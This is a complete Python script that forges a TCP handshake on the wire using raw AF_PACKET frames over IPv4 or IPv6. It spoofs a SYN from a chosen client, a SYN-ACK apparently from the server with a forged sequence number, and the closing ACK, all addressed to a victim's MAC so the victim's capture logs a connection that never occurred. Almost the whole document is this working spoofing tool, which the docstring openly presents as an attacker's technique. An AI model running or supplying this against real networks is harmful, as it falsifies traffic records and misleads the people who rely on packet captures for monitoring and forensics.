#!/usr/bin/env python3
"""Forges a TCP handshake on the wire, as an attacker on the victim's link would (raw AF_PACKET
frames, no scapy): a SYN from CLIENT to SERVER, a SYN-ACK "from" SERVER with a sequence number the
forger chose, and the ACK that acknowledges it. All three frames go to the victim's MAC address,
so its capture sees a complete, correctly numbered handshake that nobody really made.

usage: forge-handshake.py IFACE SRC_MAC DST_MAC CLIENT SERVER DPORT [SPORT]
CLIENT and SERVER are IPv4 or IPv6 addresses (IPv6 may be ::ffff:a.b.c.d).
"""
import ipaddress
import random
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp(src, dst, sport, dport, seq, ack, flags, v6):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    if v6:
        pseudo = src.packed + dst.packed + struct.pack("!I3xB", len(hdr), 6)
    else:
        pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, 6, len(hdr))
    c = csum(pseudo + hdr)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:]


def packet(src, dst, seg):
    if src.version == 6:
        return struct.pack("!IHBB", 6 << 28, len(seg), 6, 64) + src.packed + dst.packed + seg
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), random.randint(0, 0xFFFF), 0, 64, 6, 0, src.packed, dst.packed)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + seg


def main():
    iface, src_mac, dst_mac, client, server, dport = sys.argv[1:7]
    sport = int(sys.argv[7]) if len(sys.argv) > 7 else random.randint(20000, 60000)
    c = ipaddress.ip_address(client)
    s = ipaddress.ip_address(server)
    v6 = c.version == 6
    ethertype = 0x86DD if v6 else 0x0800
    mac = lambda m: bytes(int(x, 16) for x in m.split(":"))
    eth = mac(dst_mac) + mac(src_mac) + struct.pack("!H", ethertype)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    cisn = random.randint(1, 2**31)
    sisn = random.randint(1, 2**31)
    dport = int(dport)
    frames = [
        packet(c, s, tcp(c, s, sport, dport, cisn, 0, 0x02, v6)),
        packet(s, c, tcp(s, c, dport, sport, sisn, cisn + 1, 0x12, v6)),
        packet(c, s, tcp(c, s, sport, dport, cisn + 1, sisn + 1, 0x10, v6)),
    ]
    for f in frames:
        sock.send(eth + f)
        time.sleep(0.02)
    print("forged %s:%d -> %s:%d" % (client, sport, server, dport))


if __name__ == "__main__":
    main()
